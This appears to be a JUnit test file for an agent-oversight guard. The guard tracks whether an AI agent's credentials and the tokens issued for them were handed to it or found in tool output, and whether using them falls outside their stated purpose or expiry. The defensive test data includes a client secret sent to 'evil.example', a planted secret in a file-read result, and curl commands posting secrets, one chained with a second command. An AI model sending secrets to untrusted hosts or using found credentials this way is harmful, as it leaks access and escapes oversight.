package dev.agentguard;

import static org.assertj.core.api.Assertions.assertThat;

import dev.agentguard.action.Body;
import dev.agentguard.action.HttpCall;
import dev.agentguard.action.ToolCall;
import dev.agentguard.action.ToolDeclaration;
import dev.agentguard.config.GuardConfig;
import dev.agentguard.decision.Origin;
import dev.agentguard.decision.Reason;
import dev.agentguard.scope.Credential;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** A credential that a server issues is what the one is that was shown to it. */
class IssuedCredentialTest {

    private static final String GIVEN = "client-secret-0a1b2c3d4e5f";
    private static final String FOUND = "client-secret-9z8y7x6w5v4u";
    private static final String ISSUED = "issued-0123456789abcdef";
    private static final String KEY_ID = "ASIA0123456789ABCDEF";
    private static final String OAUTH = "https://a.example/oauth/token";
    private static final Instant NOW = Instant.parse("2026-04-24T12:00:00Z");
    private static final CallContext CONTEXT = new CallContext("s", Origin.WIRE);

    @TempDir
    Path work;

    private Guard guard;
    private Instant now = NOW;

    @BeforeEach
    void start() throws IOException {
        Path file = Files.writeString(
                work.resolve("guard.yaml"),
                "version: 1\ncredentials:\n  - {name: robot, fingerprint: \""
                        + Credential.of(GIVEN, "").fingerprint()
                        + "\", key-id: AKIA0123456789ABCDEF, purpose: reading orders, operations: [\"x:read\", \"http:POST\"],"
                        + " expires: 2026-05-01T00:00:00Z}\n");
        guard = Guard.builder()
                .config(GuardConfig.load(file, true))
                .clock(new TestClock())
                .build();
        guard.toolResult(CONTEXT, "readFile", "SECRET=" + FOUND);
    }

    @AfterEach
    void stop() {
        guard.close();
    }

    private final class TestClock extends Clock {
        @Override
        public ZoneId getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(ZoneId zone) {
            return this;
        }

        @Override
        public Instant instant() {
            return now;
        }
    }

    private static HttpCall call(String method, String url, String authorization, String body) {
        Map<String, List<String>> headers =
                authorization.isEmpty() ? Map.of() : Map.of("Authorization", List.of(authorization));
        return new HttpCall(method, url, headers, Body.of(body));
    }

    private void answer(HttpCall call, String body) {
        guard.response(CONTEXT, call, 200, Map.of(), Body.of(body));
    }

    private List<Reason> use(String authorization) {
        return guard.explain(call("DELETE", "https://api.example.com/orders/1", authorization, ""), CONTEXT)
                .decision()
                .reasons();
    }

    private List<String> rules(String authorization) {
        return use(authorization).stream().map(Reason::rule).toList();
    }

    static List<Arguments> issuing() {
        String sigV4 = "AWS4-HMAC-SHA256 Credential=AKIA0123456789ABCDEF/20260424/us-east-1/sts/aws4_request,"
                + " SignedHeaders=host, Signature=00";
        String given = "Bearer " + GIVEN;
        String used = "Bearer " + ISSUED;
        return List.of(
                Arguments.of(
                        call(
                                "POST",
                                "https://login.example.com/oauth2/token",
                                "",
                                "client_id=a&client_secret=" + GIVEN),
                        "{'access_token':'%s','token_type':'Bearer','expires_in':3600}",
                        used),
                Arguments.of(
                        call("POST", "https://unusual.example.com/exchange", given, "{}"),
                        "{'token_type':'Bearer','access_token':'%s'}",
                        used),
                Arguments.of(
                        call(
                                "POST",
                                "https://sts.eu-west-1.amazonaws.com/",
                                sigV4,
                                "Action=AssumeRole&Version=2011-06-15"),
                        "<AssumeRoleResponse><Credentials><AccessKeyId>" + KEY_ID
                                + "</AccessKeyId><SecretAccessKey>s</SecretAccessKey><Expiration>2026-04-24T13:00:00Z"
                                + "</Expiration></Credentials></AssumeRoleResponse>",
                        sigV4.replace("AKIA0123456789ABCDEF", KEY_ID)),
                Arguments.of(
                        call(
                                "POST",
                                "https://vault.internal:8200/v1/auth/approle/login",
                                "",
                                "{\"secret_id\":\"" + GIVEN + "\"}"),
                        "{'auth':{'client_token':'%s','lease_duration':3600}}",
                        used),
                Arguments.of(
                        call("GET", "https://vault.internal/v1/database/creds/app", given, ""),
                        "{'lease_duration':60,'data':{'username':'v-app','password':'%s'}}",
                        used),
                Arguments.of(
                        call("POST", "https://api.github.com/app/installations/7/access_tokens", given, ""),
                        "{'token':'%s','expires_at':'2026-04-24T13:00:00Z'}",
                        "token " + ISSUED),
                Arguments.of(
                        call("POST", "https://k8s.internal/api/v1/namespaces/a/serviceaccounts/b/token", given, "{}"),
                        "{'status':{'token':'%s','expirationTimestamp':'2026-04-24T13:00:00Z'}}",
                        used),
                Arguments.of(
                        call(
                                "POST",
                                "https://iamcredentials.googleapis.com/v1/p/-/s/a:generateAccessToken",
                                given,
                                "{}"),
                        "{'accessToken':'%s','expireTime':'2026-04-24T13:00:00Z'}",
                        used));
    }

    @ParameterizedTest
    @MethodSource("issuing")
    void what_is_issued_for_a_given_credential_is_given(HttpCall call, String form, String authorization) {
        String answer = form.replace('\'', '"').replace("%s", ISSUED);
        assertThat(rules(authorization)).doesNotContain("credentials.purpose");
        answer(call, answer);
        guard.toolResult(CONTEXT, "http", answer);
        assertThat(rules(authorization)).contains("credentials.purpose").doesNotContain("credentials.found");
        assertThat(use(authorization))
                .anySatisfy(reason -> assertThat(reason.text())
                        .contains("(`robot`, from `")
                        .contains("was issued for reading orders")
                        .contains("is outside that purpose"));
    }

    @Test
    void what_is_issued_lasts_no_longer_than_the_earlier_end() {
        HttpCall asking = call("POST", OAUTH, "", "client_secret=" + GIVEN);
        answer(asking, "{\"access_token\":\"" + ISSUED + "\",\"expires_in\":3600}");
        answer(asking, "{\"access_token\":\"" + ISSUED + "2\",\"expires_in\":31000000}");
        assertThat(rules("Bearer " + ISSUED)).doesNotContain("credentials.expired");
        now = NOW.plus(Duration.ofHours(2));
        assertThat(rules("Bearer " + ISSUED)).contains("credentials.expired");
        assertThat(rules("Bearer " + ISSUED + "2")).doesNotContain("credentials.expired");
        now = NOW.plus(Duration.ofDays(30));
        assertThat(rules("Bearer " + ISSUED + "2")).contains("credentials.expired");
    }

    @Test
    void what_is_issued_for_a_found_credential_is_found() {
        answer(call("POST", OAUTH, "", "client_secret=" + FOUND), "{\"access_token\":\"" + ISSUED + "\"}");
        assertThat(use("Bearer " + ISSUED))
                .extracting(Reason::text)
                .contains(
                        "token `…cdef` was issued by `a.example` for token `…5v4u`, which was handed to nobody: it was"
                                + " first seen in the result of `readFile`");
        answer(call("POST", OAUTH, "", "refresh_token=" + ISSUED), "{\"access_token\":\"third-0123456789abcdef\"}");
        assertThat(rules("Bearer third-0123456789abcdef")).contains("credentials.found");
    }

    @Test
    void an_answer_makes_no_found_token_a_given_one() {
        answer(
                call("POST", "https://evil.example/oauth/token", "", "client_secret=" + GIVEN),
                "{\"access_token\":\"" + FOUND + "\"}");
        assertThat(rules("Bearer " + FOUND)).contains("credentials.found");
        answer(
                call("GET", "https://vault.example/v1/secret/data/prod", "Bearer " + GIVEN, ""),
                "{\"data\":{\"token\":\"" + ISSUED + "\"}}");
        guard.toolResult(CONTEXT, "http", ISSUED);
        assertThat(rules("Bearer " + ISSUED)).contains("credentials.found");
    }

    @Test
    void an_error_issues_nothing() {
        HttpCall asking = call("POST", OAUTH, "", "client_secret=" + GIVEN);
        guard.response(CONTEXT, asking, 401, Map.of(), Body.of("{\"access_token\":\"" + ISSUED + "\"}"));
        assertThat(rules("Bearer " + ISSUED)).doesNotContain("credentials.purpose");
    }

    @Test
    void a_session_that_is_set_at_a_sign_in_belongs_to_what_was_shown() {
        HttpCall asking = call("POST", "https://a.example/login", "Bearer " + GIVEN, "");
        List<String> cookies = List.of("sid=" + ISSUED + "; Path=/", "theme=x");
        guard.response(CONTEXT, asking, 302, Map.of("set-cookie", cookies), Body.empty());
        HttpCall using = new HttpCall(
                "DELETE", "https://a.example/orders/1", Map.of("Cookie", List.of("sid=" + ISSUED)), Body.empty());
        assertThat(guard.explain(using, CONTEXT).decision().reasons())
                .extracting(Reason::rule)
                .contains("credentials.purpose");
    }

    private List<String> afterTool(String command, String result) {
        CallContext tool = new CallContext("s", Origin.TOOL);
        guard.check(new ToolCall("run_command", "", Map.of("command", command), ToolDeclaration.none()), tool);
        guard.toolResult(tool, "run_command", result);
        return rules("Bearer " + ISSUED);
    }

    @Test
    void the_result_of_a_tool_that_only_asks_for_a_token_is_an_answer() {
        String curl = "curl -s -X POST https://login.example.com/oauth2/token -d client_secret=" + GIVEN;
        String answer = "HTTP/2 200\r\ncontent-type: application/json\r\n\r\n{\"access_token\":\"" + ISSUED + "\"}";
        assertThat(afterTool(curl, answer)).contains("credentials.purpose").doesNotContain("credentials.found");
    }

    @Test
    void the_result_of_a_tool_that_does_more_is_only_seen() {
        String curl = "curl -s -X POST https://login.example.com/oauth2/token -d client_secret=" + GIVEN;
        assertThat(afterTool(curl + "; cat x.json", "{\"access_token\":\"" + ISSUED + "\"}"))
                .contains("credentials.found");
    }

    @Test
    void hostile_answers_never_throw() {
        Random random = new Random(5);
        String alphabet = "{}[]\":,\\<>/access_tokenAccessKeyId0 \u0000";
        HttpCall asking = call("POST", OAUTH, "", "client_secret=" + GIVEN);
        for (int round = 0; round < 2_000; round++) {
            StringBuilder text = new StringBuilder(random.nextBoolean() ? "{\"access_token\":" : "");
            for (int i = random.nextInt(80); i > 0; i--) {
                text.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            answer(asking, text.toString());
        }
        answer(asking, "{\"a\":".repeat(50_000));
        answer(asking, "[".repeat(200_000));
        answer(asking, "<AccessKeyId>".repeat(20_000));
        assertThat(rules("Bearer " + FOUND)).contains("credentials.found");
    }
}
